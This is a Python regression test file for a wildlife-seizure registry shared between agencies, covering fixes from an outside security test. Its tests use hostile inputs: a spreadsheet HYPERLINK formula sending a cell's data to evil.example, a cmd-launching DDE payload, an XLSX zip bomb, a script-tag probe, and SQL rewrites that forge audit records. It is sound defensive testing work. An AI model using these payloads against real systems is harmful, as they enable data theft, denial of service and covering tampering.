"""Regression tests for the findings of the outside attack on the registry (issue 17), each
with the hostile input the tester used, on SQLite and PostgreSQL."""

from __future__ import annotations

from tests.registry.conftest import Registry, seizure

A, B, C = "PE-SERFOR", "BO-POL", "BR-IBAMA"
MARIA = {
    "name": "Maria Fernanda Condori",
    "birth_date": "1990-07-21",
    "nationality": "PE",
    "id_number": "PE-44128710",
}


def test_linking_a_partners_person_leaks_none_of_its_withheld_fields(registry: Registry) -> None:
    """B sees only the kind of A's persons; C shares everything with B. B links A's person to a
    seizure of its own: B's notifications must name neither the person nor a match in C's
    records (that would confirm A's name, birth date or ID number through C)."""
    c = registry.client
    assert (
        c.post(
            "/agreements",
            headers=registry.as_(A, "admin"),
            json={"grantee": B, "record_kind": "person", "fields": ["kind"]},
        ).status_code
        == 201
    )
    assert (
        c.post(
            "/agreements",
            headers=registry.as_(C, "admin"),
            json={"grantee": B, "record_kind": "person"},
        ).status_code
        == 201
    )
    made = c.post(
        "/seizures",
        headers=registry.as_(A, "editor"),
        json=seizure("A-1", persons=[{"role": "suspect", "person": MARIA}]),
    )
    a_person = made.json()["persons"][0]["person_id"]
    assert (
        c.post(
            "/seizures",
            headers=registry.as_(C, "editor"),
            json=seizure("C-1", country="BR", persons=[{"role": "buyer", "person": MARIA}]),
        ).status_code
        == 201
    )
    assert c.get(f"/persons/{a_person}", headers=registry.as_(B, "analyst")).json()["name"] is None
    linked = c.post(
        "/seizures",
        headers=registry.as_(B, "editor"),
        json=seizure("B-1", country="BO", persons=[{"role": "courier", "person_id": a_person}]),
    )
    assert linked.status_code == 201, linked.text
    told = c.get("/notifications", headers=registry.as_(B, "analyst")).json()
    text = repr(told)
    for secret in ("Maria", "Condori", "1990", "44128710"):
        assert secret not in text, told
    assert not [n for n in told if n["detail"].get("other_agency") == C], told


def test_a_readable_linked_person_is_still_matched_and_named(registry: Registry) -> None:
    """The fix must not stop hits where B may read what is matched."""
    c = registry.client
    for grantor in (A, C):
        assert (
            c.post(
                "/agreements",
                headers=registry.as_(grantor, "admin"),
                json={"grantee": B, "record_kind": "person"},
            ).status_code
            == 201
        )
    a_person = c.post(
        "/seizures",
        headers=registry.as_(A, "editor"),
        json=seizure("A-1", persons=[{"role": "suspect", "person": MARIA}]),
    ).json()["persons"][0]["person_id"]
    c.post(
        "/seizures",
        headers=registry.as_(C, "editor"),
        json=seizure("C-1", country="BR", persons=[{"role": "buyer", "person": MARIA}]),
    )
    c.post(
        "/seizures",
        headers=registry.as_(B, "editor"),
        json=seizure("B-1", country="BO", persons=[{"role": "courier", "person_id": a_person}]),
    )
    told = c.get("/notifications", headers=registry.as_(B, "analyst")).json()
    to_c = [n for n in told if n["detail"].get("other_agency") == C]
    assert to_c and "Maria Fernanda Condori" in to_c[0]["message"], told


def test_filters_answer_nothing_about_withheld_fields(registry: Registry) -> None:
    """A shares cases without their status and notes without what they are about: filtering
    on those fields must not tell them (yes/no probing)."""
    c, mine = registry.client, registry.as_(A, "editor")
    for kind, fields in (("case", ["reference", "title"]), ("note", ["text"]), ("seizure", None)):
        assert (
            c.post(
                "/agreements",
                headers=registry.as_(A, "admin"),
                json={"grantee": B, "record_kind": kind, "fields": fields},
            ).status_code
            == 201
        )
    sid = c.post("/seizures", headers=mine, json=seizure("S-1")).json()["id"]
    case = {"title": "t", "opened_on": "2026-01-02", "seizure_ids": [sid]}
    assert (
        c.post(
            "/cases", headers=mine, json={"reference": "K-1", "status": "closed", **case}
        ).status_code
        == 201
    )
    assert c.post("/cases", headers=mine, json={"reference": "K-2", **case}).status_code == 201
    assert (
        c.post(
            "/notes",
            headers=mine,
            json={
                "record_kind": "seizure",
                "record_id": sid,
                "text": "informant says more to come",
            },
        ).status_code
        == 201
    )
    theirs = registry.as_(B, "analyst")
    assert len(c.get("/cases", headers=theirs).json()) == 2  # both shared, status withheld
    for status in ("closed", "investigation"):
        assert c.get("/cases", headers=theirs, params={"status": status}).json() == []
    assert (
        c.get("/notes", headers=theirs, params={"record_kind": "seizure", "record_id": sid}).json()
        == []
    )
    # the owner still filters its own records
    assert [
        k["reference"] for k in c.get("/cases", headers=mine, params={"status": "closed"}).json()
    ] == ["K-1"]
    assert (
        len(
            c.get(
                "/notes", headers=mine, params={"record_kind": "seizure", "record_id": sid}
            ).json()
        )
        == 1
    )


def test_csv_export_neutralises_formulas(registry: Registry) -> None:
    c = registry.client
    planted = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
    ]
    from onca.registry._exports import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("\tTAB", "\rCR", -1.5, "Callao")] == [
        "'\tTAB",
        "'\rCR",
        -1.5,
        "Callao",
    ]
    for i, place in enumerate(planted):
        r = c.post(
            "/seizures", headers=registry.as_(A, "editor"), json=seizure(f"F-{i}", place=place)
        )
        assert r.status_code == 201, r.text
    body = c.get("/exports/seizures.csv", headers=registry.as_(A, "analyst")).text
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert sorted(r["place"] for r in rows) == sorted("'" + p for p in planted)
    assert all(r["lat"] == "-12.05" for r in rows)  # numbers stay numbers


def test_like_wildcards_in_a_filter_are_literal(registry: Registry) -> None:
    c, me = registry.client, registry.as_(A, "analyst")
    c.post("/seizures", headers=registry.as_(A, "editor"), json=seizure("W-1"))  # Panthera onca
    for probe in ("%", "_", "P%", "Panthera_onca", "%a%"):
        assert c.get("/seizures", headers=me, params={"taxon": probe}).json()["total"] == 0, probe
    assert c.get("/seizures", headers=me, params={"taxon": "panthera"}).json()["total"] == 1
    assert c.get("/persons", headers=me, params={"name": "%"}).status_code in (200, 422)


def test_a_write_only_token_does_not_read_agreements(registry: Registry) -> None:
    from onca.registry._admin import add_token
    from onca.registry._db import session_factory

    with session_factory(registry.client.app.state.engine)() as session:  # type: ignore[attr-defined]
        token = add_token(session, f"admin@{A}", ("write",))
        session.commit()
    r = registry.client.get("/agreements", headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 403, r.text
    assert registry.client.get("/agreements", headers=registry.as_(A, "viewer")).status_code == 200


def test_bodies_over_the_limit_are_refused_before_reading(
    registry: Registry, monkeypatch: object
) -> None:
    c, me = registry.client, registry.as_(A, "editor")
    big = b"x" * (2**20 + 1)
    r = c.post("/seizures", headers={**me, "Content-Type": "application/json"}, content=big)
    assert r.status_code == 413 and "larger than" in r.json()["detail"][0]["msg"]

    def chunks() -> object:  # no Content-Length: counted as it arrives
        for _ in range(40):
            yield b"y" * 65536

    r = c.post("/seizures", headers={**me, "Content-Type": "application/json"}, content=chunks())
    assert r.status_code == 413
    r = c.post(
        "/seizures", headers={**me, "Content-Length": "99999999999999999999999"}, content=b"{}"
    )
    assert r.status_code == 413


def test_a_stranger_is_refused_before_the_body_is_read(registry: Registry) -> None:
    """No token, or a wrong one: 401 without reading (or spooling) the upload."""
    read: list[int] = []

    def body() -> object:
        for _ in range(8):
            read.append(1)
            yield b"z" * 65536

    r = registry.client.post(
        "/imports/seizures",
        content=body(),
        headers={"Content-Type": "multipart/form-data; boundary=x"},
    )
    assert r.status_code == 401
    assert len(read) <= 1, "the body was read before the token was checked"
    r = registry.client.post(
        "/seizures", json=seizure("X"), headers={"Authorization": "Bearer onca_1_2"}
    )
    assert r.status_code == 401


def test_nan_infinity_and_lone_surrogates_are_4xx_everywhere(registry: Registry) -> None:
    c, me = registry.client, registry.as_(A, "admin")
    raw = seizure("N-1")
    text = __import__("json").dumps(raw)
    hostile = {
        "nan": text.replace('"lat": -12.05', '"lat": NaN'),
        "infinity": text.replace('"quantity": 24', '"quantity": Infinity'),
        "minus infinity": text.replace('"value_usd": 9600', '"value_usd": -Infinity'),
        "surrogate": text.replace('"Callao port"', '"Callao \\ud800 port"'),
        "surrogate key": text.replace('"place"', '"pl\\udfffce"'),
    }
    for name, body in hostile.items():
        for method, path in (
            ("POST", "/seizures"),
            ("PATCH", "/seizures/1"),
            ("POST", "/persons"),
            ("POST", "/cases"),
            ("POST", "/notes"),
            ("POST", "/agreements"),
            ("POST", "/alerts/1/triage"),
            ("PATCH", "/cases/1"),
        ):
            r = c.request(
                method, path, headers={**me, "Content-Type": "application/json"}, content=body
            )
            assert 400 <= r.status_code < 500, (name, method, path, r.status_code, r.text)
    r = c.post(
        "/seizures",
        headers={**me, "Content-Type": "application/json"},
        content=hostile["surrogate"],
    )
    assert r.json()["detail"][0]["loc"] == ["body", "place"]
    r = c.post(
        "/seizures",
        headers={**me, "Content-Type": "application/json"},
        content=hostile["surrogate key"],
    )
    assert r.json()["detail"][0]["loc"] == ["body", "pl\\udfffce"]
    deep = "[" * 100_000 + "]" * 100_000
    r = c.post("/seizures", headers={**me, "Content-Type": "application/json"}, content=deep)
    assert r.status_code == 422
    # an input that fails validation is not echoed back
    r = c.post("/seizures", headers=me, json=seizure("N-2", country="<script>alert(1)</script>"))
    assert r.status_code == 422 and "<script>" not in r.text


def test_a_cached_token_stops_at_its_expiry(registry: Registry) -> None:
    import datetime as dt
    import time

    import sqlalchemy as sa

    from onca.registry._admin import add_token
    from onca.registry._db import session_factory
    from onca.registry._models import utcnow

    engine = registry.client.app.state.engine  # type: ignore[attr-defined]
    with session_factory(engine)() as session:
        token = add_token(session, f"viewer@{A}")
        session.commit()
    with engine.begin() as conn:
        conn.execute(
            sa.text("UPDATE api_tokens SET expires_at = :t WHERE token_id = :i"),
            {"t": utcnow() + dt.timedelta(seconds=1.5), "i": token.split("_")[1]},
        )
    me = {"Authorization": f"Bearer {token}"}
    assert registry.client.get("/me", headers=me).status_code == 200  # now cached
    time.sleep(2)
    assert registry.client.get("/me", headers=me).status_code == 401


def test_an_unknown_token_id_costs_a_verification(registry: Registry, monkeypatch: object) -> None:
    """So that timing does not tell which token ids exist (7 ms against 190 ms before)."""
    from onca.registry import _auth

    calls: list[str] = []
    real = _auth._verify_nothing
    monkeypatch.setattr(_auth, "_verify_nothing", lambda s: (calls.append(s), real(s)))  # type: ignore[attr-defined]
    r = registry.client.get("/me", headers={"Authorization": "Bearer onca_0123456789abcdef_guess"})
    assert r.status_code == 401 and calls == ["guess"]


def test_reads_do_not_take_the_sqlite_write_lock(tmp_path: object) -> None:
    """A long read (an export) must not stop writers: reads begin deferred on SQLite; a read
    that appends to the audit chain does so in an immediate transaction of its own."""
    import threading

    from fastapi.testclient import TestClient

    from tests.registry.conftest import build_registry

    reg = build_registry(f"sqlite:///{tmp_path}/r.db")  # type: ignore[operator]
    c = reg.client
    made = c.post(
        "/seizures",
        headers=reg.as_(A, "editor"),
        json=seizure("L-1", persons=[{"role": "suspect", "person": {"name": "Ana Ruiz"}}]),
    ).json()
    engine = c.app.state.engine  # type: ignore[attr-defined]
    inside = threading.Event()
    release = threading.Event()
    from sqlalchemy import event

    def slow(conn: object, cursor: object, statement: str, *args: object) -> None:
        if (
            "FROM seizures" in statement
            and threading.current_thread().name != "writer"
            and not inside.is_set()
        ):
            inside.set()
            release.wait(20)

    event.listen(engine, "before_cursor_execute", slow)
    reader = threading.Thread(
        target=lambda: c.get(f"/seizures/{made['id']}", headers=reg.as_(A, "analyst"))
    )
    reader.start()
    assert inside.wait(20)
    writer_code: list[int] = []

    def write() -> None:
        with TestClient(c.app) as other:
            writer_code.append(
                other.post(
                    "/seizures", headers=reg.as_(A, "editor"), json=seizure("L-2")
                ).status_code
            )

    w = threading.Thread(target=write, name="writer")
    w.start()
    w.join(10)
    assert writer_code == [201], "a reader held the write lock"
    release.set()
    reader.join(20)
    event.remove(engine, "before_cursor_execute", slow)
    from onca.registry import verify
    from onca.registry._db import session_factory

    with session_factory(engine)() as session:
        assert verify(session).ok
    engine.dispose()


IMPORT_HEADER = (
    "reference,seized_on,country,taxon,commodity,quantity,unit,person_name,person_birth_date"
)


def _csv(rows: int, start: int = 0, sep: str = "\n") -> bytes:
    lines = [IMPORT_HEADER] + [
        f"J-{i:06d},2026-02-01,PE,Panthera onca,skins,1,number,Persona {i},1979-06-30"
        for i in range(start, start + rows)
    ]
    return (sep.join(lines) + sep).encode()


def _upload(registry: Registry, name: str, content: bytes, wait: int = 60) -> object:
    return registry.client.post(
        f"/imports/seizures?wait={wait}",
        headers=registry.as_(A, "editor"),
        files={"file": (name, content, "application/octet-stream")},
    )


def test_an_import_is_a_job_and_the_service_answers_meanwhile(registry: Registry) -> None:
    import time

    c, me = registry.client, registry.as_(A, "editor")
    r = c.post("/imports/seizures", headers=me, files={"file": ("big.csv", _csv(4000), "text/csv")})
    assert r.status_code == 202 and r.headers["Location"] == r.json()["url"], r.text
    job = r.json()["url"]
    assert r.json()["status"] in ("queued", "running")
    t0 = time.monotonic()
    assert c.get("/health").status_code == 200
    answered = time.monotonic() - t0
    during = c.get(job, headers=me).json()["status"]
    assert during in ("queued", "running"), "the import finished before the check: make it bigger"
    assert answered < 5, f"/health took {answered:.1f} s while an import ran"
    assert c.get(job, headers=registry.as_(B, "editor")).status_code == 404  # not another agency's
    deadline = time.monotonic() + 300
    while (
        c.get(job, headers=me).json()["status"] in ("queued", "running")
        and time.monotonic() < deadline
    ):
        time.sleep(0.5)
    done = c.get(job, headers=me).json()
    assert done["status"] == "imported" and done["report"]["imported"] == 4000, done
    assert c.get("/seizures", headers=me).json()["total"] == 4000


def test_hostile_import_files_are_refused_by_name_and_quickly(
    registry: Registry, monkeypatch: object
) -> None:
    import io
    import re
    import time
    import zipfile

    from openpyxl import Workbook

    # bare CR line ends (a 500 before)
    r = _upload(registry, "cr.csv", _csv(3, sep="\r"))
    assert r.status_code == 201 and r.json()["imported"] == 3, r.text  # type: ignore[attr-defined]
    # a huge field: the line and the field are named
    huge = _csv(2, start=10).decode().replace("Persona 11", "P" * 200_000).encode()
    r = _upload(registry, "huge.csv", huge)
    assert r.status_code == 422, r.text  # type: ignore[attr-defined]
    assert (r.json()["problems"][0]["line"], r.json()["problems"][0]["field"]) == (3, "person_name")  # type: ignore[attr-defined]
    # more rows than allowed, counted while reading
    monkeypatch.setenv("ONCA_REGISTRY_IMPORT_MAX_ROWS", "10")  # type: ignore[attr-defined]
    r = _upload(registry, "many.csv", _csv(11, start=20))
    assert r.status_code == 422 and "more than 10 rows" in r.json()["problems"][0]["message"]  # type: ignore[attr-defined]
    # an XLSX declaring A1:XFD100000 (52 s of work before): read as the one row it holds
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(IMPORT_HEADER.split(","))
    ws.append(
        [
            "XL-9",
            "2026-05-01",
            "BR",
            "Panthera onca",
            "skull",
            1,
            "number",
            "Ana Souza",
            "1980-01-01",
        ]
    )
    plain = io.BytesIO()
    wb.save(plain)
    patched = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(plain.getvalue())) as src,
        zipfile.ZipFile(patched, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(
                    rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD100000"/>', data
                )
                assert b"XFD100000" in data
            out.writestr(info, data)
    t0 = time.monotonic()
    r = _upload(registry, "dimension.xlsx", patched.getvalue())
    assert r.status_code == 201 and r.json()["imported"] == 1, r.text  # type: ignore[attr-defined]
    assert time.monotonic() - t0 < 20
    # a small XLSX that unpacks to more than allowed (a 1 MB file held a 1 GiB string)
    monkeypatch.setenv("ONCA_REGISTRY_IMPORT_MAX_UNPACKED", str(2**20))  # type: ignore[attr-defined]
    bomb = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(plain.getvalue())) as src,
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for info in src.infolist():
            out.writestr(info, src.read(info))
        out.writestr("xl/sharedStrings2.xml", b"a" * (4 * 2**20))
    assert len(bomb.getvalue()) < 100_000
    r = _upload(registry, "bomb.xlsx", bomb.getvalue())
    assert r.status_code == 422 and "unpacks to" in r.json()["problems"][0]["message"], r.text  # type: ignore[attr-defined]
    # UTF-16 with its BOM is read as UTF-16, not Latin-1
    text = _csv(1, start=40).decode().replace("Persona 40", "José Muñoz")
    r = _upload(registry, "utf16.csv", text.encode("utf-16"))
    assert r.status_code == 201, r.text  # type: ignore[attr-defined]
    found = registry.client.get(
        "/persons", headers=registry.as_(A, "analyst"), params={"name": "Muñoz"}
    ).json()
    assert [p["name"] for p in found] == ["José Muñoz"]


def _recompute_tail(engine: object, key: bytes | None = None) -> None:
    """What an insider with database access does: rewrite every link's hash after a change."""
    import sqlalchemy as sa

    from onca.registry._audit import GENESIS, link_hash
    from onca.registry._db import session_factory
    from onca.registry._models import AuditEntry, AuditHead

    with session_factory(engine)() as session:  # type: ignore[arg-type]
        prev = GENESIS
        for entry in session.execute(sa.select(AuditEntry).order_by(AuditEntry.seq)).scalars():
            entry.keyed = key is not None
            entry.prev_hash, entry.hash = prev, link_hash(prev, entry, key)
            prev = entry.hash
        head = session.get(AuditHead, 1)
        assert head is not None
        head.hash = prev
        session.commit()


def test_a_keyed_chain_cannot_be_rewritten_without_its_key(
    db_url: str, tmp_path: object, monkeypatch: object
) -> None:
    import sqlalchemy as sa

    from onca.registry import _audit
    from onca.registry._db import session_factory
    from tests.registry.conftest import build_registry

    key_file = tmp_path / "audit.key"  # type: ignore[operator]
    _audit.make_key(key_file)
    monkeypatch.setenv(_audit.KEY_ENV, str(key_file))  # type: ignore[attr-defined]
    reg = build_registry(db_url)
    reg.client.post("/seizures", headers=reg.as_(A, "editor"), json=seizure("K-1"))
    engine = reg.client.app.state.engine  # type: ignore[attr-defined]
    with session_factory(engine)() as session:
        check = _audit.verify(session)
        assert check.ok and check.keyed == check.links > 20, check
    monkeypatch.delenv(_audit.KEY_ENV)  # type: ignore[attr-defined]
    with session_factory(engine)() as session:  # the key is needed to vouch for keyed links
        assert "give the audit key" in (_audit.verify(session).reason or "")
    with engine.begin() as conn:
        conn.execute(
            sa.text(
                "UPDATE audit_log SET detail = '{\"reference\": \"FORGED\"}' WHERE action = 'create'"
            )
        )
    _recompute_tail(engine)  # without the key: plain hashes
    key = _audit.load_key(key_file)
    with session_factory(engine)() as session:
        check = _audit.verify(session, key=key)
    assert not check.ok and "without the key" in (check.reason or ""), (
        check
    )  # links cannot turn plain
    _recompute_tail(engine, b"x" * 64)  # with a guessed key
    with session_factory(engine)() as session:
        check = _audit.verify(session, key=key)
    assert not check.ok and "key is not the one" in (check.reason or ""), check
    engine.dispose()


def test_an_exported_head_catches_a_recomputed_chain(registry: Registry) -> None:
    import sqlalchemy as sa

    from onca.registry import _audit
    from onca.registry._db import session_factory

    registry.client.post("/seizures", headers=registry.as_(A, "editor"), json=seizure("H-1"))
    engine = registry.client.app.state.engine  # type: ignore[attr-defined]
    with session_factory(engine)() as session:
        head = _audit.export_head(session)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE audit_log SET detail = '{}' WHERE seq = 2"))
    _recompute_tail(engine)
    with session_factory(engine)() as session:
        assert _audit.verify(session).ok  # recomputed: the chain alone cannot tell
        check = _audit.verify(session, head=head)
    assert (
        not check.ok and check.broken_at == head["seq"] and "exported head" in (check.reason or "")
    )
    with engine.begin() as conn:  # cutting the tail is caught too
        conn.execute(sa.text("DELETE FROM audit_log WHERE seq = :s"), {"s": head["seq"]})
    _recompute_tail(engine)
    with session_factory(engine)() as session:
        assert "links were cut" in (_audit.verify(session, head=head).reason or "")


def test_direct_edits_of_agreements_and_roles_are_named(registry: Registry) -> None:
    import sqlalchemy as sa

    from onca.registry import _audit
    from onca.registry._db import session_factory

    c = registry.client
    assert (
        c.post(
            "/agreements",
            headers=registry.as_(A, "admin"),
            json={"grantee": B, "record_kind": "seizure", "fields": ["country"]},
        ).status_code
        == 201
    )
    engine = c.app.state.engine  # type: ignore[attr-defined]
    with session_factory(engine)() as session:
        assert _audit.verify_records(session) == []
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE agreements SET fields = NULL"))
        conn.execute(
            sa.text("UPDATE users SET role = 'admin' WHERE username = :u"), {"u": f"viewer@{B}"}
        )
        conn.execute(
            sa.text(
                "INSERT INTO agreements (grantor_id, grantee_id, record_kind, fields, valid_from, created_at)"
                " SELECT a.id, b.id, 'person', NULL, '2026-01-01', '2026-01-01' FROM agencies a, agencies b"
                " WHERE a.code = :a AND b.code = :b"
            ),
            {"a": A, "b": C},
        )
    with session_factory(engine)() as session:
        problems = _audit.verify_records(session)
    assert any("agreement 1 differs" in p and "fields" in p for p in problems), problems
    assert any("agreement 2 has no audit link" in p for p in problems), problems
    assert any(f"viewer@{B} differs" in p and "role" in p for p in problems), problems


def test_direct_edits_of_grantees_agency_codes_and_tokens_are_named(registry: Registry) -> None:
    """The outside reviewer's rewrite: an agreement moved to another grantee, two agencies'
    codes swapped, a revoked token un-revoked and moved to an admin."""
    import sqlalchemy as sa

    from onca.registry import _audit
    from onca.registry._admin import revoke_token
    from onca.registry._db import session_factory

    c = registry.client
    assert (
        c.post(
            "/agreements",
            headers=registry.as_(B, "admin"),
            json={"grantee": A, "record_kind": "seizure"},
        ).status_code
        == 201
    )
    engine = c.app.state.engine  # type: ignore[attr-defined]
    viewer = registry.tokens[("CO-DIAN", "viewer")].split("_")[1]
    with session_factory(engine)() as session:
        revoke_token(session, viewer)
        session.commit()
        assert _audit.verify_records(session) == []
    with engine.begin() as conn:
        ids = dict(conn.execute(sa.text("SELECT code, id FROM agencies")).all())
        admin = conn.execute(
            sa.text("SELECT id FROM users WHERE username = 'admin@CO-DIAN'")
        ).scalar_one()
        conn.execute(sa.text("UPDATE agreements SET grantee_id = :co"), {"co": ids["CO-DIAN"]})
        conn.execute(sa.text("UPDATE agencies SET code = 'tmp' WHERE id = :i"), {"i": ids[A]})
        conn.execute(
            sa.text("UPDATE agencies SET code = :a WHERE id = :i"), {"a": A, "i": ids["CO-DIAN"]}
        )
        conn.execute(sa.text("UPDATE agencies SET code = 'CO-DIAN' WHERE id = :i"), {"i": ids[A]})
        conn.execute(
            sa.text("UPDATE api_tokens SET revoked_at = NULL, user_id = :u WHERE token_id = :t"),
            {"u": admin, "t": viewer},
        )
    with session_factory(engine)() as session:
        problems = _audit.verify_records(session)
    assert any("agreement 1 differs" in p and "grantee_id" in p for p in problems), problems
    assert any(f"agency {A} differs" in p and "code" in p for p in problems), problems
    assert any(
        f"token {viewer} differs" in p and "revoked" in p and "user_id" in p for p in problems
    ), problems


def test_a_busy_database_is_a_503_not_a_500(registry: Registry, monkeypatch: object) -> None:
    from sqlalchemy.exc import OperationalError

    from onca.registry import _seizures

    def locked(*_: object, **__: object) -> None:
        raise OperationalError("SELECT 1", {}, Exception("database is locked"))

    monkeypatch.setattr(_seizures, "search_seizures", locked)  # type: ignore[attr-defined]
    r = registry.client.get("/seizures", headers=registry.as_(A, "viewer"))
    assert r.status_code == 503 and r.headers["Retry-After"] == "2", r.text


def test_forwarded_headers_are_believed_only_when_configured(monkeypatch: object) -> None:
    from onca.registry._serve import proxy_options

    monkeypatch.delenv("ONCA_REGISTRY_TRUSTED_PROXIES", raising=False)  # type: ignore[attr-defined]
    assert proxy_options() == {"proxy_headers": False}
    monkeypatch.setenv("ONCA_REGISTRY_TRUSTED_PROXIES", "10.0.0.5")  # type: ignore[attr-defined]
    assert proxy_options() == {"proxy_headers": True, "forwarded_allow_ips": "10.0.0.5"}


def test_the_order_of_a_search_does_not_tell_a_withheld_date(registry: Registry) -> None:
    c = registry.client
    assert (
        c.post(
            "/agreements",
            headers=registry.as_(B, "admin"),
            json={"grantee": A, "record_kind": "seizure", "fields": ["reference", "country"]},
        ).status_code
        == 201
    )
    c.post(
        "/seizures",
        headers=registry.as_(B, "editor"),
        json=seizure("B-SECRET", country="BO", seized_on="2025-06-17"),
    )
    for day in ("2025-06-01", "2025-06-16", "2025-06-18", "2025-06-30"):
        c.post(
            "/seizures", headers=registry.as_(A, "editor"), json=seizure(f"A-{day}", seized_on=day)
        )
    items = c.get("/seizures", headers=registry.as_(A, "viewer")).json()["items"]
    refs = [i["reference"] for i in items]
    assert refs[-1] == "B-SECRET", refs  # after every dated one, wherever its date falls
    assert refs[:-1] == ["A-2025-06-30", "A-2025-06-18", "A-2025-06-16", "A-2025-06-01"]


def test_a_viewer_reads_no_names_in_notifications(registry: Registry) -> None:
    c = registry.client
    for grantor in (A, C):
        c.post(
            "/agreements",
            headers=registry.as_(grantor, "admin"),
            json={"grantee": B, "record_kind": "person"},
        )
    c.post(
        "/seizures",
        headers=registry.as_(C, "editor"),
        json=seizure("C-1", country="BR", persons=[{"role": "buyer", "person": MARIA}]),
    )
    c.post(
        "/seizures",
        headers=registry.as_(B, "editor"),
        json=seizure("B-1", country="BO", persons=[{"role": "courier", "person": MARIA}]),
    )
    analyst = c.get("/notifications", headers=registry.as_(B, "analyst")).json()
    viewer = c.get("/notifications", headers=registry.as_(B, "viewer")).json()
    assert analyst and "Maria" in analyst[0]["message"], analyst
    assert viewer and "Maria" not in repr(viewer), viewer


def test_odd_compression_in_an_xlsx_and_uploads_without_write_are_refused(
    registry: Registry,
) -> None:
    import io
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(IMPORT_HEADER.split(","))
    plain = io.BytesIO()
    wb.save(plain)
    odd = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as src, zipfile.ZipFile(odd, "w") as out:
        for info in src.infolist():
            kind = (
                zipfile.ZIP_BZIP2 if info.filename.endswith("sheet1.xml") else zipfile.ZIP_DEFLATED
            )
            out.writestr(info.filename, src.read(info), compress_type=kind)
    r = _upload(registry, "bzip2.xlsx", odd.getvalue())
    assert r.status_code == 422 and "compressed in a way" in r.json()["problems"][0]["message"], (
        r.text
    )  # type: ignore[attr-defined]
    read: list[int] = []

    def body() -> object:
        for _ in range(8):
            read.append(1)
            yield b"z" * 65536

    r = registry.client.post(
        "/imports/seizures",
        content=body(),
        headers={**registry.as_(A, "viewer"), "Content-Type": "multipart/form-data; boundary=x"},
    )
    assert r.status_code == 403 and len(read) <= 1, (r.status_code, len(read))


def test_json_checks_hold_whatever_the_content_type_case(registry: Registry) -> None:
    body = '{"reference": "U-1", "seized_on": "2026-01-01", "country": "PE", "lat": NaN, "specimens": []}'
    for kind in ("APPLICATION/JSON", "application/vnd.onca+JSON"):
        r = registry.client.post(
            "/seizures", headers={**registry.as_(A, "editor"), "Content-Type": kind}, content=body
        )
        assert r.status_code == 422 and "NaN is not a JSON number" in r.text, (kind, r.text)


def test_imports_queue_only_so_far(registry: Registry, monkeypatch: object) -> None:
    monkeypatch.setenv("ONCA_REGISTRY_IMPORT_MAX_QUEUED", "1")  # type: ignore[attr-defined]
    c, me = registry.client, registry.as_(A, "editor")
    first = c.post(
        "/imports/seizures", headers=me, files={"file": ("a.csv", _csv(3000), "text/csv")}
    )
    assert first.status_code == 202
    second = c.post(
        "/imports/seizures", headers=me, files={"file": ("b.csv", _csv(2, start=5000), "text/csv")}
    )
    assert second.status_code == 429 and "too many imports" in second.text, second.text
    assert (
        c.get(first.json()["url"], headers=registry.as_(A, "viewer")).status_code == 403
    )  # reports: importers only
